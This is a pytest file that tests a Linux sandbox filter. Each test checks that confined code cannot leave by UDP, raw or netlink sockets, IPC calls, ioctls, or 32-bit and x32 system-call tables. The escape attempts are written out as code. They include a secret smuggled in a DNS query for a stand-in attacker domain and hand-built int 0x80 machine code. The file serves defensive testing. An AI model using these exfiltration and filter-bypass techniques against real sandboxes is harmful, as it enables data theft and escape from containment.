"""Ways out that are not TCP. Each attempt works unconfined, fails confined with the exact errno, and nothing arrives.

Where this user or this kernel has no such channel, the attempt shows that the filter answers before the kernel does: two
different errnos.
"""

from __future__ import annotations

import os
import socket
import textwrap

import pytest
from arena import Arena, Listener, needs_ipv6
from attack import RAW, X86_64, arrived, attempt, receiving

# fmt: off
UDP = {
    "sendto": "return s.sendto(b'leak', ('127.0.0.1', V['port']))",
    "sendto, raw": "return call('sendto', s.fileno(), b'leak', 4, 0, inet(V['port']), 16)",
    "sendmsg": "return s.sendmsg([b'leak'], [], 0, ('127.0.0.1', V['port']))",
    "sendmsg, raw": "return call('sendmsg', s.fileno(), msghdr(b'leak', inet(V['port'])), 0)",
    "sendmmsg": "return 4 * call('sendmmsg', s.fileno(), msghdr(b'leak', inet(V['port'])), 1, 0)",
    "connect and send": "s.connect(('127.0.0.1', V['port'])); return s.send(b'leak')",
    "connect and write": "s.connect(('127.0.0.1', V['port'])); return os.write(s.fileno(), b'leak')",
    "connect and writev": "s.connect(('127.0.0.1', V['port'])); return os.writev(s.fileno(), [b'le', b'ak'])",
    "connect and sendfile": """
        with open("file", "w+b") as file:
            file.write(b"leak"); file.flush()
            s.connect(("127.0.0.1", V["port"]))
            return os.sendfile(s.fileno(), file.fileno(), 0, 4)""",
    "all system calls raw": """
        fd = call("socket", 2, 2, 0)
        call("connect", fd, inet(V["port"]), 16)
        return call("sendto", fd, b"leak", 4, 0, 0, 0)""",
    "garbage in the high halves": """
        fd = call("socket", 2 | HIGH, 2 | HIGH, 17 | HIGH)
        return call("sendto", fd | HIGH, b"leak", 4, HIGH, inet(V["port"]), 16 | HIGH)""",
    "TCP's type in the high half": """
        fd = call("socket", 2, 2 | HIGH, 0)
        return call("sendto", fd, b"leak", 4, 0, inet(V["port"]), 16)""",
    "type flags": "s = socket.socket(2, 2 | 0o2004000, 17); return s.sendto(b'leak', ('127.0.0.1', V['port']))",
    "mapped": "s = socket.socket(10, 2); return s.sendto(b'leak', ('::ffff:127.0.0.1', V['port']))",
    "the unspecified address": "return s.sendto(b'leak', ('0.0.0.0', V['port']))",
    "asyncio": """
        import asyncio
        async def go():
            transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=("127.0.0.1", V["port"]))
            transport.sendto(b"leak")
            transport.close()
            return 4
        return asyncio.run(go())""",
}
# fmt: on


@pytest.mark.parametrize("way", UDP)
def test_udp_is_refused(arena: Arena, way: str) -> None:
    own = (
        "" if way.startswith(("all", "garbage", "TCP's", "type", "mapped", "asyncio")) else "s = socket.socket(2, 2)\n"
    )
    code = attempt(own + textwrap.dedent(UDP[way]))
    with receiving() as receiver:
        allow = {"net": f"127.0.0.1:{receiver.port},[::1],localhost"}
        arena.refused(code, "EPERM", works=4, allow=allow, port=receiver.port)
        assert receiver.arrived() == b"leak"


def test_udp_over_ipv6_is_refused(arena: Arena) -> None:
    needs_ipv6()
    code = attempt("return socket.socket(10, 2).sendto(b'leak', ('::1', V['port']))")
    with receiving(socket.AF_INET6, ("::1", 0)) as receiver:
        arena.refused(code, "EPERM", works=4, allow={"net": "[::1]"}, port=receiver.port)
        assert receiver.arrived() == b"leak"


def test_udp_lite_is_refused(arena: Arena) -> None:
    code = attempt("return socket.socket(2, 2, 136).sendto(b'leak', ('127.0.0.1', V['port']))")
    if arena.unconfined(attempt("return socket.socket(2, 2, 136).close()")).errno == "EPROTONOSUPPORT":
        assert arena.confined(code, port=1).errno == "EPERM"
        pytest.skip("this kernel has no UDP-Lite")
    with receiving(protocol=136) as receiver:
        arena.refused(code, "EPERM", works=4, allow={"net": "127.0.0.0/8"}, port=receiver.port)
        assert receiver.arrived() == b"leak"


def test_a_secret_in_a_dns_question_does_not_leave(arena: Arena) -> None:
    code = attempt("""
        name = b"".join(bytes([len(label)]) + label for label in b"s3cret.evil.example".split(b".")) + b"\\0"
        question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 16, 1)
        return socket.socket(2, 2).sendto(question, ("127.0.0.1", V["port"])) > 30
    """)
    with receiving() as receiver:
        allow = {"net": "127.0.0.1,evil.example,*.evil.example"}
        arena.refused(code, "EPERM", works=True, allow=allow, port=receiver.port)
        assert receiver.arrived().count(b"s3cret") == 1


# (family, type, protocol)
KINDS = {
    "Unix datagram": (1, 2, 0), "Unix stream": (1, 1, 0), "Unix packets": (1, 5, 0), "raw ICMP": (2, 3, 1), "raw TCP": (2, 3, 6),
    "raw UDP": (2, 3, 17), "raw IP": (2, 3, 255), "raw ICMPv6": (10, 3, 58), "raw IPv6": (10, 3, 255), "ping": (2, 2, 1),
    "ping, IPv6": (10, 2, 58), "UDP": (2, 2, 17), "UDP-Lite": (2, 2, 136), "SOCK_PACKET": (2, 10, 0x300), "SCTP": (2, 1, 132),
    "SCTP packets": (2, 5, 132), "SCTP, IPv6": (10, 1, 132), "DCCP": (2, 6, 33), "MPTCP": (2, 1, 262), "MPTCP, IPv6": (10, 1, 262),
    "SMC": (43, 1, 0), "SMC by inet": (2, 1, 256), "netlink: routes": (16, 3, 0), "netlink: sockets": (16, 3, 4),
    "netlink: audit": (16, 3, 9), "netlink: events": (16, 2, 15), "netlink: generic": (16, 3, 16), "netlink: crypto": (16, 3, 21),
    "netlink: netfilter": (16, 3, 12), "packet": (17, 3, 0x300), "packet datagram": (17, 2, 0x300), "vsock": (40, 1, 0),
    "vsock packets": (40, 5, 0), "AF_ALG": (38, 5, 0), "Bluetooth": (31, 3, 1), "TIPC": (30, 5, 0), "KCM": (41, 2, 0), "XDP": (44, 3, 0),
    "RDS": (21, 5, 0), "CAN": (29, 3, 1), "PPP": (24, 1, 0), "IPsec keys": (15, 3, 2), "LLC": (26, 1, 0), "NFC": (39, 3, 0),
    "Qualcomm's router": (42, 2, 0), "X.25": (9, 5, 0), "AX.25": (3, 5, 0), "Phonet": (35, 2, 0), "CAIF": (37, 1, 0), "MCTP": (45, 2, 0),
    "no family": (0, 1, 0), "a family there is not": (4000, 1, 0), "a negative family": (-2, 1, 0), "no type": (2, 0, 0),
}  # fmt: skip
KIND = """
def attempt():
    found = {}
    for title, (family, type, protocol) in V["kinds"].items():
        found[title] = []
        for kind in ((family, type, protocol), (family | HIGH, type | HIGH, protocol | HIGH), (family, type | 1 << 24, protocol)):
            try:
                os.close(call("socket", *kind))
                found[title].append(None)
            except OSError as error:
                found[title].append(errno.errorcode[error.errno])
    return found
"""


@pytest.fixture(scope="module")
def kinds(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, list[str]], dict[str, list[str]]]:
    """What opening each kind gave: unconfined and confined; as it is, with high halves of registers, with a bad flag."""
    arena = Arena(tmp_path_factory.mktemp("kinds"))
    free, held = arena.unconfined(RAW + KIND, kinds=KINDS), arena.confined(RAW + KIND, allow={"net": "*"}, kinds=KINDS)
    return free.value, held.value


@pytest.mark.parametrize("kind", KINDS)
def test_no_other_kind_of_socket_can_be_opened(
    kinds: tuple[dict[str, list[str]], dict[str, list[str]]], kind: str
) -> None:
    free, held = kinds[0][kind], kinds[1][kind]
    # Privileges are needed for some of them; with a flag there is not, the kernel says EINVAL before it looks at these.
    assert free[0] != "EPERM" or free[2] == "EINVAL"
    assert free[2] != "EPERM"
    assert held == ["EPERM"] * 3


OPENED = """
def attempt():
    found, errnos = [], {}
    for family in range(48):
        for type in range(12):
            for protocol in V["protocols"]:
                registers = (family | V["high"], type | V["flags"] | V["high"], protocol | V["high"])
                fd = libc.syscall(*map(ctypes.c_long, (NR["socket"], *registers)))
                if fd < 0:
                    errnos[errno.errorcode[ctypes.get_errno()]] = 1
                else:
                    found.append((family, type, protocol))
                    os.close(fd)
    return [found, sorted(errnos)]
"""


@pytest.mark.parametrize(("flags", "high"), [(0, 0), (0o2004000, 1 << 32)], ids=["plain", "flags and high halves"])
def test_of_all_sockets_there_are_only_tcp_can_be_opened(arena: Arena, flags: int, high: int) -> None:
    variables = {"protocols": [0, 1, 2, 6, 17, 33, 58, 132, 136, 255, 256, 262, -1], "flags": flags, "high": high}
    free = arena.unconfined(RAW + OPENED, **variables)
    assert len(free.value[0]) > 12
    held = arena.confined(RAW + OPENED, allow={"net": "127.0.0.0/8"}, **variables)
    tcp = [[2, 1, 0], [2, 1, 6], [10, 1, 0], [10, 1, 6]]
    assert held.value == [tcp, ["EPERM"]]
    held = arena.confined(RAW + OPENED, redis="/nowhere/redis", **variables)
    assert held.value == [[[1, 1, 0], *tcp], ["EPERM"]]


def test_of_all_pairs_of_sockets_only_streams_can_be_opened(arena: Arena) -> None:
    code = (
        RAW
        + """
def attempt():
    fds, found = ctypes.create_string_buffer(8), []
    for family in range(48):
        for type in range(12):
            for protocol in (0, 1, 6, 30):
                if libc.syscall(*map(ctypes.c_long, (NR["socketpair"], family, type, protocol)), fds) == 0:
                    found.append((family, type, protocol))
    return found
"""
    )
    assert [1, 2, 0] in arena.unconfined(code).value
    assert arena.confined(code).value == [[1, 1, 0]]


NETLINK = {
    "the interfaces": ("0", "struct.pack('=IHHIIB3x', 20, 18, 0x301, 1, 0, 0)"),
    "the routes": ("0", "struct.pack('=IHHIIB3x', 20, 26, 0x301, 1, 0, 2)"),
    "everybody's connections": ("4", "struct.pack('=IHHIIBBBxI48x', 72, 20, 0x301, 1, 0, 2, 6, 0, 0xFFFFFFFF)"),
}


@pytest.mark.parametrize("what", NETLINK)
def test_netlink_tells_nothing(arena: Arena, what: str) -> None:
    protocol, request = NETLINK[what]
    code = attempt(f"s = socket.socket(16, 3, {protocol}); s.sendto({request}, (0, 0)); return len(s.recv(65536)) > 16")
    arena.refused(code, "EPERM", works=True)


# Ways between processes: (the attempt, the errno confined).
CALLS = {
    "io_uring_setup": ("return call('io_uring_setup', 1, ctypes.create_string_buffer(120)) > 0", "ENOSYS"),
    "io_uring_setup, high halves": ("return call('io_uring_setup', 1 | HIGH, ctypes.create_string_buffer(120)) > 0", "ENOSYS"),
    "io_setup": ("return call('io_setup', 1, ctypes.create_string_buffer(8)) == 0", "EPERM"),
    "pidfd_open": ("return call('pidfd_open', os.getpid(), 0) > 0", "ENOSYS"),
    "a descriptor stolen by SO_PEERPIDFD": ("""
        a, b = socket.socketpair()
        pidfd = struct.unpack("=i", a.getsockopt(1, 77, 4))[0]
        return call("pidfd_getfd", pidfd, 0, 0) > 0""", "EPERM"),
    "splice": ("r, w = os.pipe(); os.write(w, b'x'); a, b = socket.socketpair(); return os.splice(r, a.fileno(), 1) == 1", "EPERM"),
    "tee": ("r, w = os.pipe(); os.write(w, b'x'); s, t = os.pipe(); return call('tee', r, t, 1, 0) == 1", "EPERM"),
    "vmsplice": ("r, w = os.pipe(); return call('vmsplice', w, struct.pack('@PN', id(r), 1), 1, 0) == 1", "EPERM"),
    "shared memory": ("i = call('shmget', 0, 4096, 0o1600); return call('shmctl', i, 0, 0) == 0", "EPERM"),
    "message queue": ("i = call('msgget', 0, 0o1600); return call('msgctl', i, 0, 0) == 0", "EPERM"),
    "semaphores": ("i = call('semget', 0, 1, 0o1600); return call('semctl', i, 0, 0, 0) == 0", "EPERM"),
    "POSIX message queue": ("return call('mq_open', V['name'].encode(), 0o102, 0o600, 0) > 0 and call('mq_unlink', V['name'].encode()) == 0", "EPERM"),
    "POSIX shared memory": ("""
        import _posixshmem
        os.close(_posixshmem.shm_open("/" + V["name"], os.O_RDWR | os.O_CREAT, 0o600))
        _posixshmem.shm_unlink("/" + V["name"])
        return True""", "EACCES"),
    "memory file": ("return call('memfd_create', b'x', 0) > 0", "EPERM"),
    "the table of connections": ("return len(open('/proc/self/net/tcp').read()) > 0", "EACCES"),
    "the table of Unix sockets": ("return len(open('/proc/net/unix').read()) > 0", "EACCES"),
}  # fmt: skip


@pytest.mark.parametrize("way", CALLS)
def test_no_other_call_is_a_channel(arena: Arena, way: str) -> None:
    body, errno = CALLS[way]
    free = arena.unconfined(attempt(body), name=f"sandboxrun-test-{os.getpid()}")
    if way.startswith("io_uring") and free.errno == "EPERM":
        pytest.skip("kernel.io_uring_disabled is set")
    if (free.errno == "ENOSYS" and errno != "ENOSYS") or (way.endswith("SO_PEERPIDFD") and free.errno == "ENOPROTOOPT"):
        pytest.skip("this kernel has no such call")
    assert free.value is True, free
    held = arena.confined(attempt(body), allow={"net": "*"}, name=f"sandboxrun-test-{os.getpid()}")
    assert (held.errno, held.value) == (errno, None), held


# linux/sockios.h. Those that change something are tried without a socket only: EBADF unconfined.
IOCTLS = {
    "SIOCGIFCONF": 0x8912, "SIOCGIFFLAGS": 0x8913, "SIOCGIFADDR": 0x8915, "SIOCGIFNETMASK": 0x891B, "SIOCGIFMTU": 0x8921,
    "SIOCGIFHWADDR": 0x8927, "SIOCGIFINDEX": 0x8933, "SIOCATMARK": 0x8905, "SIOCOUTQ": 0x5411, "SIOCGPGRP": 0x8904,
}  # fmt: skip
CHANGING_IOCTLS = {
    "SIOCADDRT": 0x890B, "SIOCDELRT": 0x890C, "SIOCSIFFLAGS": 0x8914, "SIOCSIFADDR": 0x8916, "SIOCSIFMTU": 0x8922,
    "SIOCSIFNAME": 0x8923, "SIOCSIFHWADDR": 0x8924, "SIOCADDMULTI": 0x8931, "SIOCETHTOOL": 0x8946, "SIOCSARP": 0x8955,
    "SIOCBRADDBR": 0x89A0, "SIOCSHWTSTAMP": 0x89B0, "SIOCDEVPRIVATE": 0x89F0, "SIOCSPGRP": 0x8902, "FIOSETOWN": 0x8901,
    "FIOASYNC": 0x5452, "TUNSETIFF": 0x400454CA, "SIOCSMCATTACH": 0x89E0, "SIOCPROTOPRIVATE": 0x89E0,
}  # fmt: skip


@pytest.fixture(scope="module")
def ioctls(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, list[str]], dict[str, list[str]]]:
    """What each request gave, unconfined and confined: on a TCP socket, with high halves of registers, without a socket."""
    code = (
        RAW
        + """
kept = ctypes.create_string_buffer(400)
def one(fd, request, buffer):
    try:
        call("ioctl", fd, request, buffer)
    except OSError as error:
        return errno.errorcode[error.errno]
def attempt():
    s, found = socket.socket(), {}
    for name, number in V["asking"].items():
        asked = struct.pack("@iP", 400, ctypes.addressof(kept)) if name == "SIOCGIFCONF" else b"lo"
        found[name] = [one(fd, request, ctypes.create_string_buffer(asked, 64))
                       for fd, request in ((s.fileno(), number), (s.fileno(), number | HIGH), (-1, number))]
    for name, number in V["changing"].items():  # never on a socket: as root they would change this machine
        found[name] = [one(-1, request, 0) for request in (number, number | HIGH)]
    return found
"""
    )
    arena, names = Arena(tmp_path_factory.mktemp("ioctls")), {"asking": IOCTLS, "changing": CHANGING_IOCTLS}
    return arena.unconfined(code, **names).value, arena.confined(code, **names).value


@pytest.mark.parametrize("name", [*IOCTLS, *CHANGING_IOCTLS])
def test_no_ioctl_of_a_socket_tells_of_or_changes_the_network(
    ioctls: tuple[dict[str, list[str]], dict[str, list[str]]], name: str
) -> None:
    free, held = ioctls[0][name], ioctls[1][name]
    assert free == ([None, None, "EBADF"] if name in IOCTLS else ["EBADF"] * 2)
    assert held == ["EPERM"] * len(free)


# i386's numbers (asm/unistd_32.h), and int 0x80 with the arguments in ebx, ecx, edx, esi, edi.
INT80 = (
    RAW
    + """
def int80(number, *args):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code = b"\\x53\\xb8" + struct.pack("=I", number)
    for opcode, value in zip(b"\\xbb\\xb9\\xba\\xbe\\xbf", args):
        code += bytes([opcode]) + struct.pack("=I", value & 0xFFFFFFFF)
    page.write(code + b"\\xcd\\x80\\x5b\\xc3")
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if result < 0:
        raise OSError(-result, "int 0x80")
    return result
def low(data):
    # MAP_32BIT: where 32-bit pointers reach
    page = libc.mmap(None, ctypes.c_long(4096), 3, 0x62, -1, ctypes.c_long(0))
    ctypes.memmove(page, data, len(data))
    return page
"""
)
OLD = {
    "getpid": "return int80(20) == os.getpid() and 'hello'",
    "connect": "s = socket.socket(); int80(362, s.fileno(), low(inet(V['port'])), 16); return hello(s.detach())",
    "socketcall": "s = socket.socket(); int80(102, 3, low(struct.pack('=3I', s.fileno(), low(inet(V['port'])), 16))); return hello(s.detach())",
    "socket, and connect": "fd = int80(359, 2, 1, 0); int80(362, fd, low(inet(V['port'])), 16); return hello(fd)",
    "MPTCP": "fd = int80(359, 2, 1, 262); int80(362, fd, low(inet(V['port'])), 16); return hello(fd)",
}  # fmt: skip


@pytest.mark.skipif(not X86_64, reason="int 0x80 is of x86")
@pytest.mark.parametrize("way", OLD)
def test_the_32_bit_system_call_table_kills(arena: Arena, listener: Listener, way: str) -> None:
    code = INT80 + attempt(OLD[way])
    free = arena.unconfined(code, port=listener.port)
    if free.errno == "NO OUTCOME":
        pytest.skip("this kernel has no 32-bit system calls")
    assert free.value == "hello"
    before = arrived(listener)
    # Killed even where it is the connection that is granted.
    held = arena.confined(code, allow={"net": "127.0.0.1"}, port=listener.port)
    assert (held.errno, held.code) == ("NO OUTCOME", 128 + 31)  # SIGSYS
    assert arrived(listener) == before


@pytest.mark.skipif(not X86_64, reason="x32 is of x86-64")
@pytest.mark.parametrize("number", [39, 41, 42, 44, 519, 520, 547], ids=lambda number: f"0x40000000 | {number}")
def test_the_x32_table_kills(arena: Arena, number: int) -> None:
    code = attempt("return call(0x40000000 | V['number'], -1, 0, 0, 0, 0, 0)")
    # The kernel would answer, whether or not it has this table.
    assert arena.unconfined(code, number=number).errno != "NO OUTCOME"
    held = arena.confined(code, number=number)
    assert (held.errno, held.code) == ("NO OUTCOME", 128 + 31)


def test_system_calls_there_are_not_are_refused(arena: Arena) -> None:
    code = attempt("""
        found = {}
        for number in V["numbers"]:
            libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, (-1, 0, 0, 0, 0, 0)))
            found[errno.errorcode[ctypes.get_errno()]] = 1
        return list(found)
    """)
    gap = [*range(337, 424)] if X86_64 else [*range(295, 424)]
    numbers = [*gap, *range(512, 548), *range(600, 2000), 9999, 1 << 20, (1 << 30) - 1]
    assert arena.unconfined(code, numbers=numbers).value == ["ENOSYS"]
    assert arena.confined(code, numbers=numbers).value == ["EPERM"]


HIGH_NUMBERS = {
    "UDP": "return call(NR['socket'] | HIGH, 2, 2, 0) > 0",
    "listen": "s = socket.socket(); return call(NR['listen'] | HIGH, s.fileno(), 1) == 0",
    "fast open": "s = socket.socket(); return call(NR['sendto'] | HIGH, s.fileno(), b'leak', 4, 0x20000000, inet(V['port']), 16) == 4",
}


@pytest.mark.parametrize("way", HIGH_NUMBERS)
def test_a_number_with_a_high_half_is_the_same_call(arena: Arena, listener: Listener, way: str) -> None:
    code = attempt(HIGH_NUMBERS[way])
    assert arena.unconfined(code, port=listener.port).value is True
    before = arrived(listener)
    assert arena.confined(code, port=listener.port).errno == "EPERM"
    assert arrived(listener) == before
